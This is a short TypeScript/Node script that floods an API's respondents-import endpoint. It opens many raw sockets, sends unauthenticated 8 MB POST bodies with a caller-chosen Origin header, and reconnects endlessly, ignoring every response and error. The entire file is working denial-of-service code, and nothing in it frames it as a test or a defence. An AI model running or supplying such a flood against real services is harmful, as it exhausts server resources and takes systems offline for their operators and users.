import { connect } from 'node:net';

/** Sends 8 MB to the API again and again, over so many connections, without being signed in and whatever is answered, until it is stopped. */
const [url = '', origin = '', count = '0'] = process.argv.slice(2);
const { hostname, port } = new URL(url);
const body = Buffer.alloc(8 * 1024 * 1024, 'x');
const head = [
  'POST /api/workspaces/1/forms/1/respondents/import HTTP/1.1',
  `Host: ${hostname}`,
  `Origin: ${origin}`,
  'Content-Type: application/json',
  `Content-Length: ${body.length}`,
];

function send(): void {
  const socket = connect(Number(port), hostname);
  socket.write(`${head.join('\r\n')}\r\n\r\n`);
  socket.end(body);
  socket.resume().on('error', () => undefined);
  socket.on('close', send);
}

for (let place = 0; place < Number(count); place += 1) send();
